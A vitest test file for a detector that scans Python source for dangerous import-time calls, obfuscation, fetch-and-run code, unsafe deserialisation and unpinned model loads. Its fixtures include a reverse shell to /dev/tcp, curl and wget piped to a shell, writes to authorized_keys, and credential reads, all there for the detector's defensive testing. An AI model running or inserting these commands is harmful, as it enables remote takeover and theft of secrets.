import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Budget, defaultLimits } from '../../src/artifacts/limits.js'
import type { Signs } from '../../src/artifacts/sign.js'
import { readPython, usePython, type PythonFacts } from '../../src/artifacts/text/python.js'
import { withPython } from './python.js'

const read = (source: string): PythonFacts => readPython(source, new Budget(defaultLimits, () => performance.now()))
const words = (signs: Signs): string[] => signs.list.map(({ what }) => what)
const b64 = (text: string): string => Buffer.from(text).toString('base64')

beforeAll(withPython)
afterAll(() => usePython(null))

describe('what runs on import', () => {
  it.each([
    ['import os\nos.system("echo hi")', ['os.system']],
    ['import os as o\no.system("echo hi")', ['os.system']],
    ['from os import system as s\ns("echo hi")', ['os.system']],
    ['from subprocess import *\nrun(["echo"])', ['subprocess.run']],
    ['__import__("os").system("echo hi")', ['os.system']],
    ['import importlib\nm = importlib.import_module("os")\nm.popen("echo")', ['os.popen']],
    ['import os\ngetattr(os, "sys" + "tem")("echo")', ['os.system']],
    ['import os\nos.__dict__["system"]("echo")', ['os.system']],
    ['import sys\nsys.modules["os"].system("echo")', ['os.system']],
    ['import os\nrun = os.system\nrun("echo")', ['os.system']],
    ['import os\nclass A:\n    x = os.system("echo")', ['os.system']],
    ['import os\ndef f(x=os.system("echo")): pass', ['os.system']],
    ['import os\ndef f():\n    g()\ndef g():\n    os.system("echo")\nf()', ['os.system']],
    ['import os\nclass A:\n    def __init__(self):\n        os.system("echo")\nA()', ['os.system']],
    ['import os\nclass A:\n    def go(self):\n        os.system("echo")\nA().go()', ['os.system']],
    ['import os\ndef d(f):\n    os.system("echo")\n    return f\n@d\ndef x(): pass', ['os.system']],
    ['import os\nif True:\n    try:\n        os.system("echo")\n    except Exception: pass', ['os.system']],
    ['import os\n[os.system(x) for x in ["echo"]]', ['os.system']],
    ['import os\n(lambda: os.system("echo"))()', ['os.system']],
    ['eval("1")', ['eval']],
    ['import builtins\nbuiltins.exec("1")', ['exec']],
    ['import marshal\nmarshal.loads(b"")', ['marshal.loads']],
    ['import socket\ns = socket.socket()', ['socket.socket']],
    ['import requests\nrequests.get("https://example.org")', ['requests.get']],
    ['import urllib.request\nurllib.request.urlopen("https://example.org")', ['urllib.request.urlopen']],
    ['import ctypes\nctypes.CDLL("x.so")', ['ctypes.CDLL']],
    ['import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")', ['writes ~/.bashrc']],
    ['from pathlib import Path\n(Path.home() / ".ssh/authorized_keys").write_text("x")', ['writes .ssh/authorized_keys']],
    ['open("/root/.aws/credentials").read()', ['reads /root/.aws/credentials']],
  ])('%j', (source, wanted) => {
    expect(words(read(source).importTime)).toEqual(wanted)
  })

  it('tells the line, the place and the call', () => {
    expect(read('# häm\nimport os\nos.system("echo hi")').importTime.list).toEqual([{ what: 'os.system', member: '', offset: 17, detail: 'line 3: os.system("echo hi")' }])
  })

  it.each([
    'import os\ndef f():\n    os.system("echo")',
    'import os\nif __name__ == "__main__":\n    os.system("echo")',
    'import re\nre.compile("x")\nmodel.eval()\nself.exec(1)\ntorch.compile(m)',
    'import os\nf = lambda: os.system("echo")',
    'def eval(x): return x\neval(1)',
    'import os\nopen("/root/.bashrc")\nos.environ["A"] = "b"',
  ])('not %j', (source) => {
    expect(words(read(source).importTime)).toEqual([])
  })

  it('keeps what runs in use apart, and leaves out what is ordinary there', () => {
    const facts = read('import os, requests, eval\ndef f():\n    os.system("echo")\n    requests.get("https://example.org")\n    requests.post("https://example.org")')
    expect(words(facts.importTime)).toEqual([])
    expect(words(facts.onUse)).toEqual(['os.system', 'requests.post'])
  })

  it('masks a line with a credential in it', () => {
    const token = `ghp${'_'}${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'}`
    expect(read(`import requests\nrequests.get("https://u:${token}pass1@example.org")`).importTime.list[0]?.detail).not.toContain('pass1')
  })
})

describe('obfuscation', () => {
  it.each([
    [`import base64\nexec(base64.b64decode("${b64('print(1)')}"))`, 'runs decoded text'],
    [`import base64, zlib\nx = zlib.decompress(base64.b64decode("AAAA"))\nexec(x)`, 'runs decoded text'],
    ['exec("".join(chr(x) for x in [112]))', 'runs decoded text'],
    ['exec(bytes.fromhex("7072").decode())', 'runs decoded text'],
    ['import os\ngetattr(os, "sys" + "tem")("x")', 'os.system, named in pieces'],
    ['import os\ngetattr(os, name)("x")', 'os.?, by a computed name'],
    ['__import__("".join(["o", "s"])).system("x")', 'import of os, named in pieces'],
    [`x = 1${' '.repeat(200)}; import os`, 'code far to the right of the line'],
    ['x = 1 # \u202e', 'bidi control characters'],
    [`import base64, zlib\nd = zlib.decompress(base64.b64decode("${'QUJD'.repeat(100)}"))`, 'unpacks a block of encoded text'],
  ])('%j', (source, wanted) => {
    expect(words(read(source).obfuscated)).toContain(wanted)
  })

  it.each([
    ['import requests\nexec(requests.get("https://example.org").text)', 'runs what it downloads'],
    ['from urllib.request import urlopen\nwith urlopen("https://example.org") as r:\n    exec(r.read())', 'runs what it downloads'],
    ['import os\nos.system("curl https://example.org/x | sh")', 'runs what it downloads'],
    ['import subprocess\nsubprocess.run(["bash", "-c", "wget -qO- https://example.org | bash"])', 'runs what it downloads'],
    ['import os\nos.system("bash -i >& /dev/" + "tcp/192.0.2.1/99 0>&1")', 'opens a shell to another host'],
  ])('fetches and runs: %j', (source, wanted) => {
    expect(words(read(source).fetchAndRun)).toContain(wanted)
  })
})

describe('loading', () => {
  it.each([
    ['import torch as t\nt.load("x", weights_only=False)', ['torch.load with weights_only=False']],
    ['import torch\nkw = {"weights_only": False}\ntorch.load("x", **kw)', ['weights_only=False', 'torch.load with weights_only=False']],
    ['import torch\nfrom functools import partial\ntorch.load = partial(torch.load, weights_only=False)', ['torch.load with weights_only=False']],
    ['from pickle import load as l\nl(f)', ['pickle.load']],
    ['import pickle\npickle.Unpickler(f).load()', ['pickle.Unpickler']],
    ['import joblib, dill, cloudpickle\njoblib.load("a"); dill.loads(b); cloudpickle.load(c)', ['joblib.load', 'dill.loads', 'cloudpickle.load']],
    ['import numpy as np\nnp.load("x", allow_pickle=True)', ['numpy.load with allow_pickle=True']],
    ['import yaml\nyaml.load(f)', ['yaml.load without a loader']],
    ['import yaml\nyaml.load(f, Loader=yaml.Loader)', ['yaml.load with yaml.Loader']],
    ['from tensorflow import keras\nkeras.models.load_model("x", safe_mode=False)', ['tensorflow.keras.models.load_model with safe_mode=False']],
    ['import keras\nkeras.config.enable_unsafe_deserialization()', ['keras.config.enable_unsafe_deserialization']],
    ['import pandas as pd\npd.read_pickle("x")', ['pandas.read_pickle']],
    ['from langchain_community.vectorstores import FAISS\nFAISS.load_local("x", e, allow_dangerous_deserialization=True)', ['langchain_community.vectorstores.FAISS.load_local with allow_dangerous_deserialization=True']],
    ['import os\nos.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"', ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1']],
  ])('unsafe: %j', (source, wanted) => {
    expect(words(read(source).unsafeLoads)).toEqual(wanted)
  })

  it.each([
    'import torch\ntorch.load("x")\ntorch.load("x", weights_only=True)',
    'import pickle\ny = pickle.loads(pickle.dumps(x))',
    'import numpy as np\nnp.load("x")\nnp.load("x", allow_pickle=False)',
    'import yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.load(f, yaml.CSafeLoader)',
    'import json\njson.load(f)',
  ])('safe: %j', (source) => {
    expect(words(read(source).unsafeLoads)).toEqual([])
  })

  it.each([
    ['AutoModel.from_pretrained("a/b", trust_remote_code=True)', ['trust_remote_code=True']],
    ['T = True\nAutoModel.from_pretrained("a/b", trust_remote_code=T)', ['trust_remote_code=True']],
    ['kw = {"trust_remote_code": True}', ['trust_remote_code=True']],
    ['kw = dict(trust_remote_code=True)', ['trust_remote_code=True']],
    ['kw["trust_remote_code"] = True', ['trust_remote_code=True']],
    ['args.trust_remote_code = True', ['trust_remote_code=True']],
    ['def f(trust_remote_code=True):\n    g(trust_remote_code=trust_remote_code)', ['trust_remote_code=True']],
    ['class A:\n    trust_remote_code: bool = True', ['trust_remote_code=True']],
    ['import subprocess\nsubprocess.run(["vllm", "serve", "x", "--trust-remote-code"])', ['--trust-remote-code']],
    ['import os\nos.environ["HF_DATASETS_TRUST_REMOTE_CODE"] = "1"', ['HF_DATASETS_TRUST_REMOTE_CODE=1']],
    ['parser.add_argument("--trust-remote-code", action="store_true")\nf(trust_remote_code=args.trust_remote_code)', []],
    ['f(trust_remote_code=False)', []],
  ])('remote code: %j', (source, wanted) => {
    expect(words(read(source).remoteCode)).toEqual(wanted)
  })

  it.each([
    ['from transformers import AutoModel\nAutoModel.from_pretrained("acme/model")', ['acme/model']],
    ['AutoModel.from_pretrained("acme/model", revision="main")', ['acme/model at main']],
    ['AutoModel.from_pretrained("bert-base-uncased")', ['bert-base-uncased']],
    ['ID = "acme/model"\nAutoModel.from_pretrained(ID)', ['acme/model']],
    ['from huggingface_hub import snapshot_download as d\nd(repo_id="acme/model")', ['acme/model']],
    ['from datasets import load_dataset\nload_dataset("acme/data")', ['acme/data']],
    ['from transformers import pipeline\npipeline("text-generation", model="acme/model")', ['acme/model']],
    ['import torch\ntorch.hub.load("acme/repo:v1", "x")', ['acme/repo:v1']],
  ])('unpinned: %j', (source, wanted) => {
    expect(words(read(source).unpinned)).toEqual(wanted)
  })

  it.each([
    `AutoModel.from_pretrained("acme/model", revision="${'0123456789'.repeat(4)}")`,
    'AutoModel.from_pretrained("./local")\nAutoModel.from_pretrained("checkpoints/last")\nAutoModel.from_pretrained("/opt/m")\nAutoModel.from_pretrained(path)',
    'AutoModel.from_pretrained("acme/model", revision=sha())',
    'from datasets import load_dataset\nload_dataset("json", data_files="x")\nload_dataset("csv")',
    'pipeline("sentiment-analysis")',
  ])('pinned, local or unknown: %j', (source) => {
    expect(words(read(source).unpinned)).toEqual([])
  })

  it('lists what is loaded', () => {
    expect(read('from transformers import AutoModel\n\nm = AutoModel.from_pretrained("acme/model", revision="v1")').loads).toEqual([{ library: 'transformers', id: 'acme/model', revision: 'v1', line: 3 }])
    expect(read('import torch\nfrom os import path').imports).toEqual(['os', 'torch'])
  })
})

describe('limits', () => {
  it('says where the grammar gives up', () => {
    expect(read('x = 1\ndef (:\n').brokenAt?.line).toBe(2)
    expect(read('x = 1\n').brokenAt).toBeNull()
  })

  it('is unread without a grammar', async () => {
    usePython(null)
    expect(() => read('x')).toThrow('without its grammar')
    await withPython()
  })

  it.each([
    ['brackets', '('.repeat(100_000)],
    ['closed brackets', `x = ${'('.repeat(3000)}1${')'.repeat(3000)}`],
    ['sums', `x = ${'1+'.repeat(100_000)}1`],
    ['chains', `x${'.a()'.repeat(20_000)}`],
    ['nesting', Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}if x:`).join('\n')],
    ['doubling', `a = "${'x'.repeat(1000)}"\n${'a = a + a\n'.repeat(1000)}`],
    ['loops of names', 'a = b\nb = a\na = a.b\n'.repeat(2000)],
    ['results in circles', `${'x = x.f()\n'.repeat(3000)}exec(x)\n`],
    ['bytes', '\u0000\ud800'.repeat(10_000)],
    ['execs', 'exec(f(x))\n'.repeat(5000)],
    ['too long', 'x\n'.repeat(2 ** 20 + 1)],
  ])('stands %s', (_, source) => {
    const start = performance.now()
    try {
      read(source)
    } catch (error) {
      expect((error as Error).name).toBe('Stopped')
    }
    expect(performance.now() - start).toBeLessThan(20_000)
  })
})
